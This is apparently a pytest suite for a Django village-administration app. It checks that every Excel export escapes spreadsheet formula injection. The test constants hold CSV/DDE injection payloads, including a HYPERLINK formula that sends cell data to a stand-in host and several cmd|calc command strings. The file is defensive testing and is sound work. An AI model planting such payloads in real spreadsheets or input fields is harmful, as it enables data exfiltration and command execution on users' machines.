"""No Excel export turns what people typed into a formula (OWASP formula injection).

Each test types hostile text where people type (a villager's name, a claim title, a reason, a unit's
name, a criteria title), downloads the export, and checks that no cell is a formula, that the text is
shown exactly as typed, and that formula-looking text carries Excel's quote prefix (stays text when
edited). Where the workbook can be imported again, the text comes back unchanged.
"""

from __future__ import annotations

import ast
import io
from datetime import date, timedelta
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import World, login
from tests.orgs.helpers import make_person, make_unit
from tests.points.helpers import ITEMS, make_scheme, make_villagers
from tongxin.accounts.system import SYSTEM
from tongxin.cases import services as case_services
from tongxin.cases.models import Category
from tongxin.core.xlsx import looks_like_formula
from tongxin.orgs import excel, selectors
from tongxin.orgs import services as org_services
from tongxin.orgs.models import Membership, Unit
from tongxin.points import items_xlsx
from tongxin.points import services as points_services
from tongxin.points.models import Claim, PublishedBoard
from tongxin.points.services import ItemSpec
from tongxin.stars import criteria_xlsx
from tongxin.stars import services as star_services
from tongxin.stars.models import CriteriaSet

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
CMD = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def texts(data: bytes) -> list[str]:
    """Every string cell of every sheet, after checking that none is a formula and that formula-looking
    text is marked to stay text."""
    wb = load_workbook(io.BytesIO(data))
    found: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    assert cell.quotePrefix or not looks_like_formula(cell.value), (ws.title, cell.value)
                    found.append(cell.value)
    return found


def assert_shown_as_typed(data: bytes, *typed: str) -> None:
    shown = texts(data)
    for text in typed:
        assert text in shown, f"{text!r} not in the workbook"


# --- points -------------------------------------------------------------------------------------


@pytest.fixture
def hostile_points(world: World) -> World:
    """A villager named like a command, a claim titled like a formula, goods named like a link."""
    scheme = make_scheme(world.village_a1, name=PLUS)
    people = make_villagers(world.village_a1, 2, prefix=CMD).people
    claim = points_services.record_claim(
        actor=world.user("points_recorder"), scheme=scheme, item_code="LAB", occurred_on=date(2026, 4, 8),
        title=MINUS, people=people, today=date(2026, 4, 8),
    )  # fmt: skip
    claim = points_services.approve_claim(
        actor=world.user("points_reviewer"), claim=claim, today=date(2026, 4, 8)
    )
    points_services.finalise_due_claims(today=claim.notice_until + timedelta(days=1))
    goods = points_services.create_goods(actor=SYSTEM, scheme=scheme, name=LINK, price=2, stock=5)
    points_services.redeem(
        actor=world.user("points_recorder"), goods=goods, person=people[0], today=date(2026, 4, 20)
    )
    points_services.publish_board(
        actor=world.user("village_secretary"), region=world.village_a1, period="2026Q2", title=AT
    )
    assert Claim.objects.get().state == "final"
    return world


def test_the_ledger_export_shows_names_titles_and_schemes_as_typed(
    hostile_points: World, client: Client
) -> None:
    login(client, hostile_points.user("village_secretary"))
    response = client.get(reverse("points:ledger_export"), {"period": "2026Q2"})
    assert response.status_code == 200
    assert_shown_as_typed(response.content, f"{CMD}000", f"{CMD}001", MINUS, PLUS)
    ws = load_workbook(io.BytesIO(response.content)).active
    assert {(c.value, c.data_type) for c in ws["F"][2:]} == {(5, "n")}  # 分值 stays a number


def test_the_board_export_shows_names_as_typed(hostile_points: World, client: Client) -> None:
    login(client, hostile_points.user("village_secretary"))
    response = client.get(
        reverse("points:board_export"),
        {"period": "2026Q2", "by": "person", "audience": "all", "region": hostile_points.village_a1.pk},
    )
    assert_shown_as_typed(response.content, f"{CMD}000", f"{CMD}001")


def test_the_nomination_list_shows_names_as_typed(hostile_points: World, client: Client) -> None:
    login(client, hostile_points.user("village_secretary"))
    board = PublishedBoard.objects.get()
    assert board.title == AT
    response = client.get(reverse("points:nominations_export", args=[board.pk]))
    assert_shown_as_typed(response.content, f"{CMD}000", f"{CMD}001")


def test_the_shop_report_shows_goods_and_schemes_as_typed(hostile_points: World, client: Client) -> None:
    login(client, hostile_points.user("points_recorder"))
    response = client.get(reverse("points:shop_report_export"), {"month": "2026-04"})
    assert_shown_as_typed(response.content, LINK, PLUS)


def test_scheme_items_download_as_typed_and_read_back_unchanged(world: World, client: Client) -> None:
    items = [
        ItemSpec(code="-01", name=AT, category="other", points=-3),
        ItemSpec(code="+02", name=PLUS, category="other", points=2),
        *ITEMS,
    ]
    scheme = make_scheme(world.village_a1, items=items)
    login(client, world.user("village_secretary"))
    response = client.get(reverse("points:scheme_items_xlsx", args=[scheme.pk]))
    assert response.status_code == 200
    assert_shown_as_typed(response.content, "-01", AT, "+02", PLUS)
    sheet = load_workbook(io.BytesIO(response.content))[items_xlsx.SHEET]
    points = {row[0].value: row[3] for row in sheet.iter_rows(min_row=2)}
    assert [(points[code].value, points[code].data_type) for code in ("-01", "+02")] == [(-3, "n"), (2, "n")]
    read = {i.code: (i.name, i.points) for i in items_xlsx.parse_workbook(response.content)}
    assert (read["-01"], read["+02"]) == ((AT, -3), (PLUS, 2))


# --- stars --------------------------------------------------------------------------------------


def test_criteria_download_as_typed_and_import_again_unchanged(world: World) -> None:
    sample = star_services.load_sample_criteria(actor=SYSTEM, applies_to="village")
    document = criteria_xlsx.load(criteria_xlsx.dump(sample))
    document["title"], document["source"] = LINK, CMD
    first = document["stars"][0]["indicators"][0]
    first["text"], first["evidence"] = MINUS, AT
    hostile = star_services.import_criteria(actor=world.user("county_admin"), data=document)

    data = criteria_xlsx.dump(hostile)
    assert_shown_as_typed(data, LINK, CMD, MINUS, AT)
    again = criteria_xlsx.load(data)
    assert (again["title"], again["source"]) == (LINK, CMD)
    assert (again["stars"][0]["indicators"][0]["text"], again["stars"][0]["indicators"][0]["evidence"]) == (
        MINUS,
        AT,
    )
    assert CriteriaSet.objects.filter(title=LINK).count() == 1


@pytest.fixture
def hostile_stars(world: World) -> World:
    admin, leader = world.user("county_admin"), world.user("county_leader")
    star_services.list_weak_branch(actor=admin, org=world.branch_b1, year=2026, reason=CMD, plan=LINK)
    star_services.pair_branches(actor=admin, strong=world.branch_a1, weak=world.branch_b1, year=2026, note=AT)
    star_services.record_visit(
        actor=leader, region=world.village_a1, visited_on=date(2026, 11, 1), summary=MINUS
    )
    star_services.create_task(
        actor=leader, org=world.branch_a1, problem=PLUS, required_outcome=LINK,
        owner=world.user("village_secretary"), deadline=date(2099, 1, 1),
    )  # fmt: skip
    return world


@pytest.mark.parametrize(
    ("url", "typed"),
    [
        ("/stars/lists/?kind=weak&year=2026&format=xlsx", [CMD, LINK]),
        ("/stars/weak/?year=2026&format=xlsx", [AT]),
        ("/stars/visits/?format=xlsx", [MINUS]),
        ("/stars/tasks/?format=xlsx", [PLUS, LINK]),
    ],
)
def test_star_lists_show_reasons_notes_and_problems_as_typed(
    hostile_stars: World, client: Client, url: str, typed: list[str]
) -> None:
    login(client, hostile_stars.user("county_admin"))
    response = client.get(url)
    assert response.status_code == 200
    assert_shown_as_typed(response.content, *typed)


# --- orgs ---------------------------------------------------------------------------------------


def test_units_export_as_typed_and_import_again_unchanged(world: World) -> None:
    actor = world.user("county_admin")
    make_unit(world, LINK, address=MINUS)
    data = excel.export_units(actor, selectors.units_for(actor))
    assert_shown_as_typed(data, LINK, MINUS)
    result = excel.import_file(actor=actor, kind="units", data=data)
    assert (result.rows, result.created) == (1, 0)
    assert Unit.objects.get().name == LINK


def test_people_and_memberships_export_as_typed_and_import_again_unchanged(world: World) -> None:
    actor = world.user("county_admin")
    person = make_person(world, CMD, region=world.village_a1)
    org_services.record_membership(
        actor=SYSTEM, person=person, org=world.branch_a1, status="full", since=date(2020, 7, 1)
    )
    people = excel.export_people(actor, selectors.people_for(actor))
    members = excel.export_memberships(actor, selectors.memberships_for(actor))
    assert_shown_as_typed(people, CMD)
    assert_shown_as_typed(members, CMD)
    assert excel.import_file(actor=actor, kind="people", data=people).created == 0
    assert excel.import_file(actor=actor, kind="memberships", data=members).created == 0
    assert Membership.objects.get().person.name == CMD


def test_the_coverage_report_shows_region_names_as_typed(world: World, client: Client) -> None:
    township = org_services.create_region(actor=SYSTEM, name=LINK, kind="township", parent=world.county)
    make_unit(world, "美团站点", region=township, gig_workers=30)
    login(client, world.user("county_admin"))
    response = client.get(reverse("orgs:coverage"), {"format": "xlsx"})
    assert response.status_code == 200
    assert_shown_as_typed(response.content, LINK)


# --- cases --------------------------------------------------------------------------------------


def test_the_case_export_shows_reporters_as_typed(world: World, client: Client) -> None:
    case_services.sync_categories(actor=SYSTEM)
    intake = case_services.Intake(
        category=Category.objects.get(code="safety_hazard"), description="消防通道被堵塞",
        region=world.village_a1, address="甲一村东口", reporter_name="=A1", channel="phone",
    )  # fmt: skip
    case_services.submit_case(actor=world.user("village_secretary"), intake=intake)
    login(client, world.user("township_admin"))
    response = client.get("/cases/overview/export.xlsx")
    assert response.status_code == 200
    assert_shown_as_typed(response.content, "=**")  # the reporter's name, masked beyond its first character


# --- every exporter goes through core.xlsx ------------------------------------------------------

SRC = Path(__file__).resolve().parents[2] / "src" / "tongxin"


def _writes_workbooks(tree: ast.Module) -> bool:
    return any(
        isinstance(node, ast.ImportFrom)
        and node.module == "openpyxl"
        and any(alias.name == "Workbook" for alias in node.names)
        for node in ast.walk(tree)
    )


def _uses_core_xlsx(tree: ast.Module) -> bool:
    return any(
        isinstance(node, ast.ImportFrom)
        and (
            node.module == "tongxin.core.xlsx"
            or (node.module == "tongxin.core" and any(alias.name == "xlsx" for alias in node.names))
        )
        for node in ast.walk(tree)
    )


def test_every_module_that_builds_a_workbook_appends_through_core_xlsx() -> None:
    builders = {
        path.relative_to(SRC).as_posix(): ast.parse(path.read_text(encoding="utf-8"))
        for path in SRC.rglob("*.py")
        if "migrations" not in path.parts
    }
    # core/xlsx.py is the module they go through; it appends every row with its own append_row.
    builders = {
        name: tree for name, tree in builders.items() if _writes_workbooks(tree) and name != "core/xlsx.py"
    }
    assert builders, "no exporter found: has the scan broken?"
    assert [name for name, tree in builders.items() if not _uses_core_xlsx(tree)] == []
